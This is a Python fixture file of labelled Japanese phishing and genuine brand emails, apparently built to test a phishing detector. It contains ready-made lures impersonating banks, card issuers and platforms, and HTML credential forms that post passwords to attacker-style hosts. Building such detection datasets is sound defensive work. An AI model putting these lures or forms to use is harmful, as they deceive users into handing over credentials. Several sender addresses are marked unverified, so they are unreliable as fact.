# Microsoft, Google, LINE, Yahoo! JAPAN, plus extra cases for the top brands.
from spec import P, G, A, D

VOICEMAIL_HTML = '''<!DOCTYPE html><html><head><meta charset="utf-8"><title>Microsoft 365</title></head>
<body><h3>Microsoft 365 - ボイスメールを再生するにはサインインしてください</h3>
<form action="https://login-microsoftonline.voicemsg-jp.workers.dev/collect" method="post">
<input type="email" name="login" placeholder="メールアドレス"><br>
<input type="password" name="passwd" placeholder="パスワード"><br>
<button type="submit">サインイン</button></form></body></html>
'''.encode('utf-8')

INVOICE_HTML = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=shift_jis"></head>
<body><p>請求書を表示するには、Outlookのパスワードを入力してください。</p>
<form action="https://203.0.113.88/owa/auth.php" method="post"><input name="pw" type="password"><input type="submit" value="表示"></form>
</body></html>
'''.encode('cp932')

# ---------------- Microsoft / Outlook ----------------
P('microsoft-voicemail-html-attachment', 'Microsoft', ('Microsoft Teams', 'voicemail@teams-msg-jp.com'),
  '新しいボイスメール（0:42）- 03-5xxx-xxxx から',
  '''新しいボイスメールが届いています。

発信者：03-5xxx-xxxx
長さ：0分42秒
受信日時：2025/10/14 9:02

添付ファイルを開いてメッセージを再生してください。

Microsoft Teams''',
  D('2025-10-14 09:03:00'), auth=A('m365', dmarc='none', compauth='none reason=905'), struct='mixed', cte='base64',
  attach=('ボイスメール_20251014.html', 'text/html', VOICEMAIL_HTML),
  tricks='HTML attachment with a credential form posting to workers.dev; Japanese attachment name (UTF-8 B encoded); look-alike teams-msg-jp.com')

P('outlook-password-expiry-zero-width-html', 'Microsoft', ('Microsoft アカウント チーム', 'no-reply@msaccount-security.jp'),
  'Outlookのパスワードの有効期限が本日切れます',
  '''Micro\u200bsoft アカウント

お客様のパスワードは本日有効期限が切れます。
現在のパスワードを維持するには、以下のボタンをクリックしてください。

[[現在のパスワードを維持する|https://outlook-keep-password.onrender.com/?e=user]]

Micro\u200bsoft アカウント チーム''',
  D('2024-11-05 08:00:00'), auth=A('gmail', dmarc='none'), struct='html', cte='base64',
  tricks='zero-width space inside Microsoft; password-expiry lure; onrender.com hosting; look-alike sender')

P('microsoft-mailbox-quota-forged-m365', 'Microsoft', ('Microsoft 365 管理者', 'postmaster@example.jp'),
  'メールボックスの容量が上限に達しました',
  '''お使いのメールボックスの容量が上限（50GB）の98%に達しました。
このままでは新しいメールを受信できなくなります。
容量を無料で追加するには、以下から確認してください。

https://sites.google.com/view/m365-storage-upgrade-jp

IT管理者''',
  D('2023-09-26 11:30:00'), auth=A('m365', spf='fail', dkim='none', dmarc='fail', p='QUARANTINE', mfrom='relay.bxwq.net', compauth='fail reason=000'),
  tricks='forged recipient-domain postmaster (spoofed internal IT, DMARC fail, M365); sites.google.com link; quota lure')

P('microsoft-invoice-html-attach-sjis', 'Microsoft', ('経理部 田中', 'tanaka.keiri@shinwa-unyu.co.jp'),
  'RE: 請求書送付の件（11月分）',
  '''お世話になっております。
11月分の請求書を添付いたします。
閲覧にはMicrosoft 365（Outlook）での認証が必要です。
ご確認よろしくお願いいたします。

新和運輸株式会社 経理部 田中''',
  D('2024-12-02 10:15:00'), auth=A('gmail'), charset='shift_jis', struct='mixed-plain', cte='base64', subj_enc='b-sjis',
  attach=('invoice_202411.html', 'text/html', INVOICE_HTML),
  tricks='compromised business partner (full pass) replying "RE:"; HTML attachment with password form posting to a raw IP; Shift_JIS body and attachment')

G('microsoft-security-code-genuine', 'Microsoft', ('Microsoft アカウント チーム', 'account-security-noreply@accountprotection.microsoft.com'),
  'Microsoft アカウントのセキュリティ コード',
  '''Microsoft アカウント

セキュリティ コード

アカウント m.ito@example.jp のセキュリティ コードとして次をご使用ください。

セキュリティ コード: 5139

このコードに心当たりがない場合は、無視していただいてかまいません。

ありがとうございます。
Microsoft アカウント チーム''',
  D('2025-05-05 13:31:00'), auth=A('m365', mfrom='accountprotection.microsoft.com', dkim_d='accountprotection.microsoft.com'), struct='alt', cte='quoted-printable',
  tricks='hard genuine: security code mail (no link) from accountprotection.microsoft.com (from memory, UNVERIFIED)')

G('microsoft-unusual-signin-genuine', 'Microsoft', ('Microsoft アカウント チーム', 'account-security-noreply@accountprotection.microsoft.com'),
  'Microsoft アカウントの普段と異なるサインイン アクティビティ',
  '''Microsoft アカウント

普段と異なるサインイン アクティビティ
Microsoft アカウント wa*****@example.jp に、普段と異なるサインイン アクティビティが検出されました。

国/地域: 日本
IP アドレス: 192.0.2.201
日付: 2024/07/19 2:13 (JST)

ご自身でない場合は、アカウントを保護するために以下を確認してください。
[[最近のアクティビティを確認する|https://account.live.com/Activity]]

Microsoft アカウント チーム''',
  D('2024-07-19 02:14:00'), auth=A('gmail', mfrom='accountprotection.microsoft.com', dkim_d='accountprotection.microsoft.com', p='REJECT'), struct='html', cte='base64',
  tricks='hard genuine: unusual sign-in alert with link; sender UNVERIFIED')

G('microsoft-365-invoice-genuine', 'Microsoft', ('Microsoft', 'microsoft-noreply@microsoft.com'),
  'Microsoft 365 Personal のご請求書',
  '''Microsoft 365 Personal の定期請求が完了しました。

ご請求額：¥14,900（税込）
請求日：2025年3月3日
お支払い方法：Visa **** 4821

注文の詳細やサブスクリプションの管理は、Microsoft アカウントから行えます。
https://account.microsoft.com/services

Microsoft Corporation''',
  D('2025-03-03 06:10:00'), auth=A('isp', mfrom='microsoft.com', dkim_d='microsoft.com'), cte='base64',
  tricks='genuine subscription invoice; microsoft-noreply@microsoft.com from memory (UNVERIFIED)')

# ---------------- Google ----------------
P('google-drive-share-compromised-school', 'Google', ('Google ドライブ（中村 先生）', 'nakamura.t@hikari-gakuen.ac.jp'),
  '中村 先生が「2025年度 保護者会資料.pdf」を共有しました',
  '''中村 先生があなたとファイルを共有しました：

2025年度 保護者会資料.pdf

[[開く|https://docs-google.drive-share.top/file/d/1aX9/view]]

Google ドライブ：あらゆるファイルを一か所で安全に管理''',
  D('2025-04-21 15:33:00'), auth=A('gmail'), struct='html', cte='base64',
  tricks='shared-file lure from a compromised school mailbox (full pass); fake Drive host docs-google.drive-share.top')

P('google-account-deletion-open-redirect', 'Google', ('Google', 'no-reply@account-google-jp.com'),
  '重要：お客様の Google アカウントは削除されます',
  '''お客様の Google アカウントは、2年以上使用されていないため、非アクティブなアカウントのポリシーに基づき削除されます。
削除予定日：2024年12月1日

アカウントを保持する場合は、以下からログインしてください。
https://www.google.com/url?q=https://acct-keep.duckdns.org/jp&sa=D

Google LLC''',
  D('2024-11-25 12:00:00'), auth=A('m365', dmarc='none', compauth='none reason=905'), cte='quoted-printable',
  tricks='Google open redirect (google.com/url?q=) to duckdns.org; inactive-account deletion pretext (real 2023 policy); look-alike sender')

G('google-security-alert-genuine', 'Google', ('Google', 'no-reply@accounts.google.com'),
  'セキュリティ通知',
  '''新しいデバイスでのログイン
takahashi.ken@example.jp

お使いの Google アカウントに新しい Windows デバイスでログインがありました。心当たりがある場合は、何もする必要はありません。心当たりがない場合は、Google がアカウントの保護をお手伝いします。

[[アクティビティを確認|https://accounts.google.com/AccountChooser?Email=takahashi.ken@example.jp&continue=https://myaccount.google.com/alert/nt/1700000000000]]

このメールは、Google アカウントとサービスの重要な変更についてお知らせするために送信されました。
© 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA''',
  D('2025-06-02 23:48:00'), auth=A('gmail', mfrom='accounts.google.com', dkim_d='accounts.google.com', p='REJECT'), struct='alt', cte='base64',
  tricks='hard genuine: new-device sign-in alert with link (accounts.google.com; from memory)')

G('google-drive-share-genuine-colleague', 'Google', ('佐藤 花子 (Google ドライブ)', 'drive-shares-dm-noreply@google.com'),
  'ドキュメント「第3四半期 売上集計」が共有されました',
  '''佐藤 花子 さん（hanako.sato@example.jp）が次のスプレッドシートへの編集を依頼しています。

第3四半期 売上集計

[[開く|https://docs.google.com/spreadsheets/d/1Qw8ExAmPlE/edit?usp=sharing_eip]]

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA''',
  D('2024-10-07 10:12:00'), auth=A('gmail', mfrom='doclist.bounces.google.com', dkim_d='google.com', p='REJECT'), struct='html', cte='quoted-printable',
  tricks='hard genuine: real Drive share notification (lure twin) from drive-shares-dm-noreply@google.com (from memory)')

# ---------------- LINE ----------------
P('line-account-verify-lookalike', 'LINE', ('LINE', 'notice@line-me-jp.com'),
  '【LINE】アカウントの利用が制限されています',
  '''LINEをご利用のお客様

お客様のLINEアカウントで不審なログインが確認されたため、一部機能を制限しました。
本人確認のため、電話番号と認証番号を入力してください。

https://line-me-jp.com/verify

LINEヤフー株式会社''',
  D('2024-01-30 21:30:00'), auth=A('gmail', dmarc='none'), cte='base64',
  tricks='look-alike line-me-jp.com passing SPF/DKIM; asks SMS verification code (account takeover)')

P('line-friend-takeover-code-request', 'LINE', ('小林 さとみ', 'satomi.kobayashi.0522@yahoo.co.jp'),
  'お願いがあります',
  '''さとみです。急にごめんね。
LINEが急に使えなくなって、新しい端末で登録し直してるんだけど、
あなたの電話番号に届く4桁の認証番号を教えてもらえないかな？
LINEから「認証番号」ってSMSが届いたら、そのままこのメールに返信してね。
よろしくお願いします！''',
  D('2025-02-17 20:05:00'), auth=A('isp', mfrom='yahoo.co.jp', dkim_d='yahoo.co.jp'), cte='8bit',
  tricks='friend-impersonation asking for the LINE SMS verification code by reply; no link; free mail yahoo.co.jp')

G('line-login-notice-genuine', 'LINE', ('LINE', 'no-reply@line.me'),
  '[LINE] ログインのお知らせ',
  '''お使いのLINEアカウントにPC版（Windows）でログインしました。

日時：2025/11/03 21:02
場所：日本

ログインした覚えがない場合は、スマートフォン版LINEの[ホーム]>[設定]>[アカウント]から、ただちにパスワードを変更してください。

LINEヤフー株式会社''',
  D('2025-11-03 21:02:30'), auth=A('gmail', mfrom='line.me', dkim_d='line.me'), cte='base64',
  tricks='hard genuine: login notice telling to change password, no link; no-reply@line.me from memory (UNVERIFIED)')

G('line-email-registration-genuine', 'LINE', ('LINE', 'no-reply@line.me'),
  '[LINE] メールアドレス登録の認証番号',
  '''メールアドレスを登録するための認証番号です。

認証番号：4827

LINEアプリで認証番号を入力してください。
このメールに心当たりがない場合は破棄してください。''',
  D('2024-03-14 18:31:00'), auth=A('m365', mfrom='line.me', dkim_d='line.me'), charset='iso-2022-jp', cte='7bit', subj_enc='b-jis',
  tricks='genuine OTP (認証番号) mail, no link, ISO-2022-JP; sender UNVERIFIED')

# ---------------- Yahoo! JAPAN ----------------
P('yahoo-id-suspend-lookalike-html', 'Yahoo! JAPAN', ('Yahoo! JAPAN', 'security@yahoo-co-jp.net'),
  '【Yahoo! JAPAN】Yahoo! JAPAN IDの一時停止について',
  '''Yahoo! JAPAN IDをご利用のお客様

お客様のYahoo! JAPAN IDが第三者によって不正に利用された可能性があるため、一時的に利用を停止しました。
以下より本人確認を行ってください。

[[https://login.yahoo.co.jp/config/login|https://login.yahoo-co-jp.net/config/login]]

LINEヤフー株式会社''',
  D('2024-05-15 05:05:05'), auth=A('gmail', dmarc='none'), struct='html', cte='base64',
  tricks='hyphen look-alike yahoo-co-jp.net; link text shows the official login URL; 一時停止 lure')

P('yahoo-shopping-fake-order-bing-redirect', 'Yahoo! JAPAN', ('Yahoo!ショッピング', 'order@shopping-yahoo.jp'),
  '【Yahoo!ショッピング】ご注文ありがとうございます（注文番号 y-store-10092）',
  '''ご注文内容
商品：ダイソン コードレス掃除機 V15 ×1
金額：98,780円
お支払い：PayPayカード

ご注文に心当たりがない場合は、こちらからキャンセル手続きをしてください。
https://www.bing.com/ck/a?!&&p=3f9aXk&u=a1aHR0cHM6Ly95c2hvcC1jYW5jZWwuY2Zk&ntb=1

Yahoo!ショッピング''',
  D('2025-08-18 22:40:00'), auth=A('isp', dmarc='none'), cte='base64',
  tricks='fake high-value order with cancel link through a Bing click redirect (/ck/a) to a .cfd; look-alike sender')

G('yahoo-login-alert-genuine', 'Yahoo! JAPAN', ('Yahoo! JAPAN', 'no-reply@mail.yahoo.co.jp'),
  '【Yahoo! JAPAN】ログインのお知らせ',
  '''Yahoo! JAPAN IDでログインがありました。

ID：kob*****
日時：2025年4月20日 10:02
環境：Android / Yahoo! JAPANアプリ

ご自身のログインでない場合は、すぐにパスワードの変更や、ログイン履歴の確認を行ってください。
https://login.yahoo.co.jp/

LINEヤフー株式会社''',
  D('2025-04-20 10:02:40'), auth=A('gmail', mfrom='mail.yahoo.co.jp', dkim_d='yahoo.co.jp'), cte='base64',
  tricks='hard genuine: login alert; sender address from memory (UNVERIFIED)')

G('yahoo-shopping-order-genuine-euc', 'Yahoo! JAPAN', ('Yahoo!ショッピング', 'shopping-order@mail.yahoo.co.jp'),
  '【Yahoo!ショッピング】ご注文の確認',
  '''Yahoo!ショッピングをご利用いただき、ありがとうございます。

ストア名：北海道グルメ市場
注文番号：hkd-gourmet-100582
商品：いくら醤油漬け 500g ×1
お支払い金額：6,480円

注文履歴：https://odhistory.shopping.yahoo.co.jp/

LINEヤフー株式会社''',
  D('2024-12-15 20:20:00'), auth=A('isp', mfrom='mail.yahoo.co.jp', dkim_d='yahoo.co.jp'), charset='euc-jp', cte='8bit', subj_enc='b-eucjp',
  tricks='genuine order confirmation in EUC-JP 8bit with EUC-JP B subject; sender UNVERIFIED')

# ---------------- extra phishing for the top brands ----------------
P('amazon-compromised-university-prime', 'Amazon', ('Amazon プライム', 'office-kyomu@univ-seiwa.ac.jp'),
  'プライム会員特典の停止について',
  '''お客様

プライム会費のお支払いに問題が発生したため、プライム会員特典を停止しました。
特典を再開するにはお支払い情報を更新してください。

[[お支払い情報を更新|https://amazon-prime-jp.firebaseapp.com/update]]

Amazon.co.jp''',
  D('2024-07-11 13:40:00'), auth=A('gmail'), struct='alt', cte='base64',
  tricks='compromised university mailbox (full pass); firebaseapp.com hosting')

P('amazon-userinfo-at-trick', 'Amazon', ('Amazon.co.jp', 'service@amzn-jp-info.com'),
  'Amazonアカウント認証通知',
  '''Amazonをご利用のお客様

お客様のアカウントで異常なアクティビティを検出しました。
以下よりアカウント認証を完了してください。

https://www.amazon.co.jp@amzn-verify.r2.dev/ap/signin

Amazon.co.jp''',
  D('2023-10-20 06:06:06'), auth=A('m365', dmarc='none', compauth='fail reason=601'), charset='iso-2022-jp', cte='7bit', subj_enc='b-jis',
  tricks='userinfo @ trick (https://www.amazon.co.jp@<host>/) to r2.dev; look-alike sender')

P('amazon-forged-raw-utf8-subject', 'Amazon', ('Amazon.co.jp', 'account-update@amazon.co.jp'),
  '[緊急の連絡] お客様のお支払い方法が承認されません',
  '''Amazon.co.jp のお客様

お支払い方法が承認されないため、ご注文はすべて保留されています。
アカウントの停止を避けるため、24時間以内にお支払い情報を確認してください。

https://amazon.co.jp.payment-verify.sbs/

Amazon.co.jp''',
  D('2023-06-30 23:59:00'), auth=A('gmail', spf='softfail', dkim='none', dmarc='fail', p='QUARANTINE', mfrom='ab12.hjkq.top'),
  charset='utf-8', cte='8bit', subj_enc='raw-utf8',
  tricks='forged account-update@amazon.co.jp (SPF softfail, DMARC fail p=QUARANTINE); raw 8-bit UTF-8 subject and display name; brand-as-subdomain .sbs')

P('rakuten-ichiba-point-free-mail-cutt', '楽天市場', ('楽天スーパーポイント事務局', 'rakuten.point.jimu@gmail.com'),
  '楽天ポイント 5,000ポイント付与のお知らせ',
  '''楽天会員様
楽天市場ご利用感謝キャンペーンの当選者に選ばれました。
5,000ポイントの受取手続きをお願いします。
https://cutt.ly/rktn5000
受取期限：3日以内''',
  D('2024-02-02 20:02:00'), auth=A('gmail', mfrom='gmail.com', dkim_d='gmail.com', p='NONE'), cte='base64',
  tricks='free mail gmail.com; old brand name 楽天スーパーポイント; cutt.ly')

P('rakuten-bank-refund-callback-iso', '楽天銀行', ('楽天銀行 セキュリティ課', 'sec-desk@rakutenbank-support.com'),
  '【楽天銀行】不正送金の補償手続きについて',
  '''楽天銀行をご利用のお客様

お客様の口座から第三者による不正送金（128,000円）が確認されました。
補償手続きのため、担当者よりご案内いたします。
下記までお電話ください。

楽天銀行 不正送金補償窓口：050-3645-77xx

※お電話の際、スマートフォンでの操作をお願いする場合があります。
楽天銀行株式会社''',
  D('2025-07-07 07:07:07'), auth=A('gmail', dmarc='none'), charset='iso-2022-jp', cte='7bit', subj_enc='b-jis', crlf=True,
  tricks='call-back refund scam, no link; look-alike sender; ISO-2022-JP CRLF')

P('mercari-sms-style-empty-subject', 'メルカリ', ('', 'mercari-jim0@ezweb.ne.jp'), '',
  '''[メルカリ]お客様の売上金が振込申請期限を過ぎています。手続きはこちら https://s.id/mrcr-uriage''',
  D('2024-11-30 11:11:00'), auth=A('isp'), cte='8bit',
  tricks='SMS-style from a carrier mailbox (ezweb.ne.jp); empty subject; s.id shortener')

P('apple-sms-style-forward-self', 'Apple', ('伊藤 誠', 'makoto.ito.ipad@icloud.com'), 'Fwd: SMS',
  '''> Apple：あなたのApple Payが一時停止されました。本人確認はこちら http://apple-pay-jp.mom/v''',
  D('2024-06-06 06:06:06'), auth=A('gmail', mfrom='icloud.com', dkim_d='icloud.com', p='QUARANTINE'), to='m.ito@example.jp',
  tricks='SMS lure forwarded to self (icloud.com, passes) - label phish; .mom look-alike')

P('smbc-card-genuine-footer-copied-compromised', '三井住友カード', ('三井住友カード', 'newsletter@hanamizuki-hotel.com'),
  '【三井住友カード】ご登録情報確認のお願い',
  '''三井住友カードをご利用のお客さま

ご登録情報の一部に確認が必要な項目があります。
Vpassにログインし、ご登録情報をご確認ください。
https://vpass-member.jp-smbc.icu/

■弊社を装った不審なメールやSMSにご注意ください
弊社では、メールでカード番号や暗証番号をお伺いすることはございません。
https://www.smbc-card.com/mem/cardinfo/cardinfo4010384.jsp

三井住友カード株式会社
〒135-0061 東京都江東区豊洲2-2-31 SMBC豊洲ビル
Copyright (C) Sumitomo Mitsui Card Co., Ltd.''',
  D('2025-10-21 09:00:00'), auth=A('m365'), cte='base64',
  tricks='compromised hotel newsletter sender (full pass, M365); genuine-looking footer with real warning-page URL next to the lure link (.icu)')

P('eki-net-sms-style-jnet', 'えきねっと', ('', 'ekinet_jre882@yahoo.co.jp'), '【えきねっと】',
  '''えきねっとアカウント異常通知：24時間以内にご確認ください https://eki-net-jp.sbs/a''',
  D('2025-05-20 05:20:00'), auth=A('isp', mfrom='yahoo.co.jp', dkim_d='yahoo.co.jp'), cte='8bit',
  tricks='SMS-style short mail from yahoo.co.jp; subject only the bracket tag; look-alike .sbs')

P('aeon-card-forged-ma2-dmarc-m365', 'イオンカード', ('イオンカード', 'aeoncard@ma2.email.aeon.co.jp'),
  '【重要】イオンカード ご利用確認のお願い',
  '''イオンカードをご利用のお客さま

お客さまのカードにおいて、第三者による不正利用の可能性があるお取引を検知しました。
ご利用確認のため、暮らしのマネーサイトにログインしてください。

[[暮らしのマネーサイトへ|https://aeon-kurashi-money.pages.dev/login]]

イオンフィナンシャルサービス株式会社''',
  D('2024-08-29 17:50:00'), auth=A('m365', spf='fail', dkim='fail', dmarc='fail', p='REJECT', mfrom='nvs4.qplmb.top'), struct='html', cte='base64',
  tricks='forged genuine ESP sender ma2.email.aeon.co.jp (SPF fail, DKIM fail, DMARC fail, M365); pages.dev')

P('jcb-myjcb-iso-rawjis-from', 'JCB', ('MyJCB事務局', 'myjcb@jcb-card-info.jp'),
  '【MyJCB】ご登録情報の確認のお願い',
  '''MyJCBをご利用のお客様

ご登録のメールアドレス宛にお知らせをお届けできないことがありました。
ご登録情報の確認をお願いいたします。

https://jcb-card-info.jp/myjcb/

株式会社ジェーシービー''',
  D('2023-01-25 12:30:00'), auth=A('isp', dmarc='none'), charset='iso-2022-jp', cte='7bit', subj_enc='raw-jis', from_enc='raw-jis',
  tricks='raw ISO-2022-JP (unencoded JIS escape sequences) in Subject and From display name; look-alike jcb-card-info.jp')

P('epos-qr-code-iso-related', 'エポスカード', ('エポスカード', 'info@epos-net-card.com'),
  '【エポスカード】ご本人様確認のお願い',
  '''エポスカード会員様
ご本人確認が完了していないため、カードのご利用を一部制限しています。
スマートフォンで下記の二次元コードを読み取り、ご本人確認をお願いいたします。
[[QR|cid:qr]]
株式会社エポスカード''',
  D('2024-09-09 09:09:00'), auth=A('gmail', dmarc='none'), charset='iso-2022-jp', cte='7bit', subj_enc='b-jis', struct='related',
  tricks='QR-only lure in ISO-2022-JP HTML; look-alike domain')

P('mufg-nicos-compromised-pta-sjis', '三菱UFJニコス', ('MUFGカード', 'info@pta-minato-sho.jp'),
  '【MUFGカード】ご利用代金のお支払い方法変更のお願い',
  '''MUFGカードをご利用のお客様

ご指定の口座からのお引き落としができませんでした。
お支払い方法をカード払いに変更するため、以下から手続きを行ってください。

https://mufgcard-nicos.top/change

三菱UFJニコス株式会社''',
  D('2023-07-14 16:45:00'), auth=A('gmail', p='NONE'), charset='shift_jis', cte='8bit', subj_enc='b-utf8',
  tricks='compromised unrelated PTA mailbox (full pass, p=NONE); payment-failure lure; Shift_JIS 8bit')

P('softbank-payment-stop-machine-translated', 'ソフトバンク', ('ソフトバンク', 'sb-notice@softbank-mobile.vip'),
  'ソフトバンク：あなたの携帯電話サービスは停止されます',
  '''親愛なるソフトバンクユーザー：
あなたの請求書の支払いは失敗しました。あなたのサービスは48時間後に停止されます。
あなたの支払い情報を更新するには、以下のリンクをクリックしてください。
https://softbank-mobile.vip/bill
ソフトバンクカスタマーサービス''',
  D('2023-04-18 18:18:18'), auth=A('gmail', spf='neutral', dkim='none', dmarc='none'), cte='base64',
  tricks='machine-translated Japanese (親愛なる…ユーザー); .vip; SPF neutral unsigned')

P('nhk-forged-no-auth-euc', 'NHK', ('NHK', 'info@nhk.or.jp'),
  '【NHK】受信契約の確認のお願い',
  '''NHKをご覧のお客様
受信契約の内容確認ができておりません。
本日中に下記よりご確認がない場合、割増金の対象となります。
https://nhk.or.jp.keiyaku-check.click/
日本放送協会''',
  D('2025-06-05 07:30:00'), charset='euc-jp', cte='8bit', subj_enc='b-eucjp',
  tricks='forged nhk.or.jp with no Authentication-Results; brand-as-subdomain .click; EUC-JP')

P('google-workspace-storage-payment', 'Google', ('Google One', 'payments-noreply@google-one-billing.com'),
  'Google One：ストレージのお支払いができませんでした',
  '''お支払いに問題があるため、Google One のストレージプランが解約されます。
Gmail の新しいメールを受信できなくなります。
お支払い方法を更新してください：
[[お支払い方法を更新|https://pay.google.com.billing-renew.website/gp/w/home]]
Google LLC''',
  D('2025-12-03 10:30:00'), auth=A('gmail', dmarc='none'), struct='alt', cte='quoted-printable',
  tricks='look-alike google-one-billing.com; brand-as-subdomain pay.google.com.<x>.website')

# ---------------- extra genuine, hard cases ----------------
G('amazon-store-news-newsletter-tracker', 'Amazon', ('Amazon.co.jp', 'store-news@amazon.co.jp'),
  'ブラックフライデー 先行セール 本日スタート',
  '''Amazon ブラックフライデー 先行セール
11月22日(金) 0:00 ～ 11月26日(火) 23:59

最大10%ポイント還元キャンペーン（エントリーが必要です）
[[エントリーはこちら|https://www.amazon.co.jp/gp/r.html?C=2K1X9Q&R=3L8V&T=C&U=https%3A%2F%2Fwww.amazon.co.jp%2Fblackfriday]]
[[タイムセールを見る|https://www.amazon.co.jp/gp/r.html?C=2K1X9Q&R=3L8W&T=C&U=https%3A%2F%2Fwww.amazon.co.jp%2Fdeals]]

このメールの配信を停止するには、[[こちら|https://www.amazon.co.jp/gp/r.html?C=2K1X9Q&R=3L8X&T=C&U=https%3A%2F%2Fwww.amazon.co.jp%2Fgp%2Fgss%2Fmanage]]''',
  D('2024-11-22 00:00:10'), auth=A('gmail', mfrom='bounces.amazon.co.jp', dkim_d='amazon.co.jp'), struct='html', cte='quoted-printable',
  extra=['List-Unsubscribe: <https://www.amazon.co.jp/gp/gss/o/unsub>'],
  tricks='genuine sale newsletter with Amazon\'s own click-redirect (gp/r.html); store-news@ listed by write-ups; セール/ポイント/エントリー wording')

G('amazon-forwarded-receipt-to-accountant', 'Amazon', ('加藤 涼', 'kato.ryo.private@gmail.com'),
  'Fwd: Amazon.co.jp ご注文の確認（経費精算用）',
  '''経費精算用に転送します。領収書はアカウントサービスから発行できます。

---------- Forwarded message ---------
From: Amazon.co.jp <auto-confirm@amazon.co.jp>
Date: 2025年2月10日(月) 14:22
Subject: Amazon.co.jp ご注文の確認
To: <kato.ryo.private@gmail.com>

加藤 涼 様
ご注文ありがとうございます。
注文番号：250-1188201-4409922
商品：ロジクール ワイヤレスマウス M650 ×1
注文合計：4,180円
https://www.amazon.co.jp/gp/css/order-history''',
  D('2025-02-10 18:02:00'), auth=A('gmail', mfrom='gmail.com', dkim_d='gmail.com', p='NONE'), to='kato-ryo@example.jp',
  tricks='hard genuine: user forwards a genuine Amazon receipt from private Gmail to work address')

G('rakuten-ichiba-newsletter-r10', '楽天市場', ('楽天市場', 'ichiba-news@emagazine.rakuten.co.jp'),
  '【楽天市場】お買い物マラソン 開始！ポイント最大44倍',
  '''楽天市場 お買い物マラソン
2025年9月4日(木) 20:00 ～ 9月11日(木) 01:59

ショップ買いまわりでポイント最大44倍！
[[エントリーする|https://r10.to/hMaraThon]]
[[クーポンを獲得|https://r10.to/hCoupOn1]]

配信停止・変更は[[こちら|https://emagazine.rakuten.co.jp/]]
楽天グループ株式会社''',
  D('2025-09-04 12:00:00'), auth=A('m365', mfrom='emagazine.rakuten.co.jp', dkim_d='rakuten.co.jp'), struct='html', cte='base64',
  tricks='genuine newsletter with r10.to shortener (group shortener, write-ups call it official) and ポイント最大44倍 wording; sender subdomain UNVERIFIED')

G('mercari-campaign-merpay-genuine', 'メルカリ', ('メルペイ', 'no-reply@mercari.jp'),
  '【メルペイ】抽選で最大全額ポイント還元キャンペーン',
  '''いつもメルカリ・メルペイをご利用いただきありがとうございます。

期間中、メルペイのコード払いでお支払いいただくと、抽選で最大全額ポイント還元！
期間：2024年12月1日（日）～12月15日（日）

詳しくはアプリのお知らせをご確認ください。
[[キャンペーン詳細|https://jp.mercari.com/campaign/merpay-zengaku]]

株式会社メルペイ''',
  D('2024-12-01 10:00:00'), auth=A('gmail', mfrom='mercari.jp', dkim_d='mercari.jp'), struct='alt', cte='base64',
  tricks='genuine sub-brand campaign (メルペイ) from no-reply@mercari.jp; 抽選/全額還元 wording')

G('paypay-card-group-company', 'PayPay', ('PayPayカード', 'info@paypay-card.co.jp'),
  '【PayPayカード】ご請求額確定のお知らせ',
  '''PayPayカードをご利用いただきありがとうございます。
2025年11月27日お支払い分のご請求額が確定しました。

ご請求額：18,204円

ご利用明細はPayPayアプリまたはPayPayカード会員メニューでご確認ください。

PayPayカード株式会社''',
  D('2025-11-04 09:00:00'), auth=A('gmail', mfrom='paypay-card.co.jp', dkim_d='paypay-card.co.jp'), cte='base64',
  tricks='genuine group-company mail from paypay-card.co.jp (hyphenated official domain; from memory, UNVERIFIED)')

G('yamato-nekopos-shipper-via-esp', 'ヤマト運輸', ('ハンドメイドショップ tsumugi', 'shop@tsumugi-handmade.example.jp'),
  '【tsumugi】商品発送のお知らせ（ヤマト運輸 ネコポス）',
  '''小林 様

この度はご注文いただきありがとうございます。
本日、ヤマト運輸のネコポスにて商品を発送いたしました。

送り状番号：4402-1197-3345
配送状況はヤマト運輸のサイトでご確認いただけます。
https://toi.kuronekoyamato.co.jp/cgi-bin/tneko

到着まで今しばらくお待ちください。
ハンドメイドショップ tsumugi''',
  D('2025-03-03 17:20:00'), auth=A('gmail', mfrom='tsumugi-handmade.example.jp', dkim_d='tsumugi-handmade.example.jp'), to='kobayashi.s@example.jp',
  tricks='genuine shop mail that names Yamato (brand mentioned by a third party) with the real tracking site link; shop domain is example.jp')

G('smbc-vpass-security-warning-genuine', '三井住友カード', ('三井住友カード', 'info@mail.vpass.ne.jp'),
  '【三井住友カード】ご本人さま確認のお願い（ハンドルネーム：たろう）',
  '''たろう 様
（三井住友カード（NL））

いつもご利用ありがとうございます。
Vpassへのログインパスワードが変更されました。

変更日時：2025/06/07 23:10

お客さまご自身による変更でない場合は、第三者による不正アクセスの可能性があります。
至急、カード裏面のお電話番号までご連絡ください。

三井住友カード株式会社''',
  D('2025-06-07 23:10:40'), auth=A('gmail', mfrom='bounce.mail.vpass.ne.jp', dkim_d='mail.vpass.ne.jp'), charset='iso-2022-jp', cte='7bit', subj_enc='b-jis-fold',
  tricks='hard genuine: password-changed alert with 至急/不正アクセス wording; mail.vpass.ne.jp listed; ISO-2022-JP folded subject')

G('saison-amex-group-newsletter', 'セゾンカード', ('セゾンカード', 'news@mail2.saisoncard.co.jp'),
  '【セゾンカード】永久不滅ポイント 交換レートアップのお知らせ',
  '''いつもセゾンカードをご利用いただきありがとうございます。

期間限定！永久不滅ポイントのギフト券交換レートがアップします。
期間：2024年3月1日～3月31日

[[詳しくはこちら|https://mail2.saisoncard.co.jp/c/?t=PZ8q1]]

配信停止：[[Netアンサー メール設定|https://mail2.saisoncard.co.jp/c/?t=PZ8q2]]
株式会社クレディセゾン''',
  D('2024-03-01 11:00:00'), auth=A('isp', mfrom='mail2.saisoncard.co.jp', dkim_d='saisoncard.co.jp'), struct='alt', cte='quoted-printable',
  tricks='genuine newsletter from mail2.saisoncard.co.jp (listed in a write-up) with tracker links; 期間限定/ギフト券 wording')

G('jcb-dnp-meisai-iso', 'JCB', ('MyJCB', 'myjcb-info@cj.jcb.co.jp'),
  '【MyJCB】カードご利用代金明細確定のお知らせ',
  '''MyJCBをご利用いただきありがとうございます。
2025年2月10日お支払い分のカードご利用代金明細が確定しました。

お支払金額：11,532円

明細はMyJCBまたはMyJCBアプリでご確認ください。
※JCBがメールでカード番号や暗証番号をお伺いすることはありません。

株式会社ジェーシービー''',
  D('2025-01-25 10:30:00'), auth=A('gmail', mfrom='cj.jcb.co.jp', dkim_d='jcb.co.jp'), charset='iso-2022-jp', cte='7bit', subj_enc='b-jis',
